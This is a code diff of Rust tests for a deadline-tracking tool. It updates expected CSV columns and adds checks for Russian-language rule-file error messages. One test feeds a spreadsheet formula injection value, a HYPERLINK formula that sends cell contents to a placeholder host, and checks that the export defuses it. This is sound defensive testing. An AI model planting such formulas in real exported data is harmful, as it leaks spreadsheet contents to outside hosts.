@@ -43,9 +43,9 @@ fn a_spreadsheet_never_runs_what_a_client_wrote() {
         "gist": "=HYPERLINK(\"http://x?\"&A1)" }));
     let csv = desk.done(&["list", "--format", "csv"]);
     let lines: Vec<_> = csv.split("\r\n").collect();
-    assert!(lines[0].starts_with("due,overdue_days,number,"), "{csv}");
+    assert!(lines[0].starts_with("due,inner_due,overdue_days,number,"), "{csv}");
     assert!(lines[1].contains(",\"'=HYPERLINK(\"\"http://x?\"\"&A1)\","), "{csv}");
-    assert!(lines[1].starts_with("2026-12-08,-15,"), "a figure stays a figure: {csv}");
+    assert!(lines[1].starts_with("2026-12-08,,-15,"), "a figure stays a figure: {csv}");
 }
 
 #[test]
@@ -119,7 +119,13 @@ fn rules_are_loaded_from_files_and_a_broken_one_is_named_with_its_line() {
     assert_eq!(answer["due"], "2026-12-07", "a Saturday moves on");
     let broken = desk.file("bad.toml", "[[norm]]\nid = \"x\"\nfoo = 1\n");
     let reason = desk.refused(&["load", "norms", &broken]);
-    assert!(reason.contains("bad.toml") && reason.contains('3'), "{reason}");
+    assert!(
+        reason.contains("bad.toml") && reason.contains("строка 3") && reason.contains("«foo»"),
+        "{reason}"
+    );
+    let misspelt = desk.file("bad.toml", &norms.replace("roll = ", "rol = "));
+    let reason = desk.refused(&["load", "norms", &misspelt]);
+    assert!(reason.contains("«rol»") && reason.contains("Ближайшее — «roll»"), "{reason}");
     desk.done(&["load", "calendar", "assets/calendar/2027.toml"]);
     desk.done(&["load", "topics", "assets/topics.toml"]);
 }
